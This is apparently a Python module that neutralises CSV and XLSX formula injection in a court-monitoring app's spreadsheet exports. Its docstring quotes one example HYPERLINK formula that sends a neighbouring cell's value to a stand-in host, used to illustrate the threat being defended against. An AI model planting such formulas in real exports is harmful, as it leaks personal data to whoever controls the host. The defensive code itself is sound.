"""The only way Court Monitor writes CSV and XLSX cells: text a spreadsheet would run as a formula is
neutralised ("CSV injection", OWASP), numbers stay numbers.

A case reference, court name or username typed as `=HYPERLINK("http://x.example/?c="&B2,"Open")`
would otherwise become a live formula in the file a manager opens, beside dates of birth. Text
starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written as text: in CSV with a
leading `'` (which spreadsheet programs hide and treat as "this is text"), in XLSX as an explicit
string cell marked with Excel's quote prefix (it stays text even when edited).

Writers never call the `csv` module, openpyxl or XlsxWriter themselves
(tests/security/test_spreadsheet_cells.py checks the imports), so a writer added later cannot forget
this. openpyxl and XlsxWriter are imported by the functions that write a workbook, not at the top:
every `flask` command and server start imports this module."""
import csv
import numbers
import re
from collections.abc import Iterable
from pathlib import Path

#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (or DDE).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A number written as text ("-3", "+2.5", "1e-3") is a value, not a formula: it stays as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


_FIRST_CHARACTERS = frozenset(FORMULA_STARTS)


def is_formula_like(value) -> bool:
    """Text a spreadsheet program would evaluate instead of showing. (Written for speed: it runs for
    every cell of an export, most of them plain answers.)"""
    return (value.__class__ is str and value[:1] in _FIRST_CHARACTERS
            and _PLAIN_NUMBER.fullmatch(value) is None)


def csv_cell(value):
    """A value as a safe CSV cell: formula-like text gets a leading `'`; everything else is unchanged."""
    if is_formula_like(value):
        return "'" + value
    return value


def csv_cells(row: Iterable) -> list:
    """`csv_cell` of every value of a row, in one pass (an export writes millions of cells)."""
    return [("'" + value if value.__class__ is str and value[:1] in _FIRST_CHARACTERS
             and _PLAIN_NUMBER.fullmatch(value) is None else value) for value in row]


class CsvWriter:
    """`csv.writer` whose every cell goes through `csv_cell`."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow(csv_cells(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def new_workbook():
    """A write-only openpyxl Workbook (rows stream to temporary XML, memory stays flat); fill it with `append_row`."""
    from openpyxl import Workbook

    return Workbook(write_only=True)


def xlsx_cell(sheet, value, *, bold: bool = False):
    """A value as a safe XLSX cell: formula-like text becomes an explicit string cell with the quote
    prefix; numbers, dates and other text pass through (openpyxl writes them as they are)."""
    if not (bold or is_formula_like(value)):
        return value
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    cell = WriteOnlyCell(sheet, value=value)
    if is_formula_like(value):
        cell.data_type = "s"  # openpyxl made it a formula ("f") because it starts with "="
        cell.quotePrefix = True
    if bold:
        cell.font = Font(bold=True)
    return cell


def append_row(sheet, values: Iterable, *, bold: bool = False) -> None:
    """Append one row of values to a write-only sheet, every cell through `xlsx_cell`."""
    sheet.append([xlsx_cell(sheet, value, bold=bold) for value in values])


class StreamedWorkbook:
    """An XLSX written row by row with XlsxWriter's constant-memory mode, for exports of any size:
    each row goes to a temporary file as soon as the next one starts, and the cells are written
    by type without building a cell object each (about twice as fast as openpyxl's write-only
    mode, the raw export's 100,000 checklists in well under the 90 s a proxy would wait).

    XlsxWriter turns text that starts with `=` into a formula and text that looks like an address
    into a link unless told not to; both are off here, and formula-like text is written as a
    string with the quote prefix, as `xlsx_cell` does with openpyxl. Close it (or use `with`)."""

    def __init__(self, path: Path):
        import xlsxwriter

        self._workbook = xlsxwriter.Workbook(str(path), {
            "constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False,
            "strings_to_numbers": False,
        })
        add_format = self._workbook.add_format
        #: (bold, quoted) -> format; None is the default cell format.
        self._formats = {(False, False): None, (False, True): add_format({"quote_prefix": True}),
                         (True, False): add_format({"bold": True}),
                         (True, True): add_format({"bold": True, "quote_prefix": True})}

    def add_sheet(self, name: str) -> "StreamedSheet":
        return StreamedSheet(self._workbook.add_worksheet(name), self._formats)

    def close(self) -> None:
        self._workbook.close()

    def __enter__(self) -> "StreamedWorkbook":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


class StreamedSheet:
    """One sheet of a `StreamedWorkbook`; rows are appended in order."""

    def __init__(self, worksheet, formats: dict):
        self._worksheet = worksheet
        self._formats = formats
        self._row = 0

    def append_row(self, values: Iterable, *, bold: bool = False) -> None:
        """Text as text (formula-like text quoted), numbers as numbers, booleans as booleans; None
        and empty text leave the cell empty; anything else (a date) is written as its text."""
        worksheet, row = self._worksheet, self._row
        write_string, write_number = worksheet.write_string, worksheet.write_number
        plain, quoted = self._formats[bold, False], self._formats[bold, True]
        for column, value in enumerate(values):
            kind = value.__class__
            if kind is str:
                if value:
                    write_string(row, column, value, quoted if value[:1] in _FIRST_CHARACTERS
                                 and _PLAIN_NUMBER.fullmatch(value) is None else plain)
            elif kind is int or kind is float:
                write_number(row, column, value, plain)
            elif value is None:
                continue
            elif kind is bool:
                worksheet.write_boolean(row, column, value, plain)
            elif isinstance(value, numbers.Real):
                write_number(row, column, float(value), plain)
            else:
                text = value.isoformat() if hasattr(value, "isoformat") else str(value)
                write_string(row, column, text, quoted if is_formula_like(text) else plain)
        self._row = row + 1
